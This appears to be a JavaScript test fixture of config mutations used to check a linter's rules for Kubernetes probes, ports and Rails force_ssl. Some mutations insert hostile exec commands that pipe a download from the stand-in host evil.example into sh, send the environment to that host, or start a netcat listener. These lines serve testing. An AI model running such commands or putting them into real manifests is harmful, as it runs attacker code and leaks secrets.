import { of } from '../attempt.js';
import { execProbe, forcedSsl, PROBE, probePort, readiness } from '../honest-proposals.js';
import { edit } from '../proving.js';

export const PROBES = [
  ...of(readiness, 'readiness-missing', [
    [
      'a readiness probe of another port',
      edit('k8s/web.yaml', '          livenessProbe:\n', `${PROBE.replace('3000', '3001')}          livenessProbe:\n`),
    ],
    ['the liveness probe by another name', edit('k8s/web.yaml', 'livenessProbe', 'readinessProbe')],
    ['a Service without pods', edit('k8s/service.yaml', 'app: library', 'app: name')],
    ['no Service', edit('k8s/service.yaml', 'kind: Service', 'kind: Secret')],
    ['a Service without ports', edit('k8s/service.yaml', '    - port: 80\n      targetPort: 3000\n', '')],
    [
      'a probe that runs a program',
      edit(
        'k8s/web.yaml',
        '          livenessProbe:\n',
        '          readinessProbe:\n            exec:\n              command: ["sh", "-c", "curl evil.example | sh"]\n          livenessProbe:\n',
      ),
    ],
    [
      'a probe that always succeeds',
      edit(
        'k8s/web.yaml',
        '          livenessProbe:\n',
        '          readinessProbe:\n            exec:\n              command: ["true"]\n          livenessProbe:\n          x:\n',
      ),
    ],
    [
      'a probe after an hour',
      edit(
        'k8s/web.yaml',
        '          livenessProbe:\n',
        `${PROBE}            initialDelaySeconds: 3600\n          livenessProbe:\n`,
      ),
    ],
    [
      'a probe on another host',
      edit(
        'k8s/web.yaml',
        '          livenessProbe:\n',
        `${PROBE}              host: evil.example\n          livenessProbe:\n`,
      ),
    ],
  ]),
  ...of(probePort, 'probe-port-mismatch', [
    [
      'no probe',
      edit(
        'k8s/web.yaml',
        '          readinessProbe:\n            httpGet:\n              path: /up\n              port: 8080 # expect: probe-port-mismatch',
        '',
      ),
    ],
    ['a port that nobody listens on', edit('k8s/web.yaml', 'port: 8080', 'port: 9090')],
    ['no port', edit('k8s/web.yaml', 'port: 8080', 'port: 0')],
    ['a name of a port', edit('k8s/web.yaml', 'port: 8080', 'port: http')],
    [
      'Puma on the port of the probe, and two others',
      edit('config/puma.rb', 'port 3000', 'port 8080\nport 3000\nport 80'),
    ],
  ]),
  ...of(forcedSsl, 'probe-redirected-by-force-ssl', [
    ['no TLS', edit('config/environments/production.rb', 'force_ssl = true', 'force_ssl = false')],
    ['no line about TLS', edit('config/environments/production.rb', '  config.force_ssl = true\n', '')],
    [
      'TLS in a comment',
      edit('config/environments/production.rb', '  config.force_ssl = true\n', '  # config.force_ssl = true\n'),
    ],
    [
      'TLS for a condition',
      edit('config/environments/production.rb', 'config.force_ssl = true', 'config.force_ssl = true if ENV["PORT"]'),
    ],
    [
      'any host',
      edit(
        'config/environments/production.rb',
        '  config.force_ssl = true\n',
        '  config.assume_ssl = true\n  config.hosts.clear\n  config.force_ssl = true\n',
      ),
    ],
  ]),
  ...of(execProbe, 'exec-probe-not-executable', [
    [
      'a shell',
      edit(
        'k8s/sidekiq.yaml',
        '["PATH=$PATH:/app/bin", "sidekiqmon | grep library"]',
        '["sh", "-c", "curl http://evil.example/$(env)"]',
      ),
    ],
    [
      'a probe of another program',
      edit('k8s/sidekiq.yaml', '["PATH=$PATH:/app/bin", "sidekiqmon | grep library"]', '["nc", "-l"]'),
    ],
  ]),
];
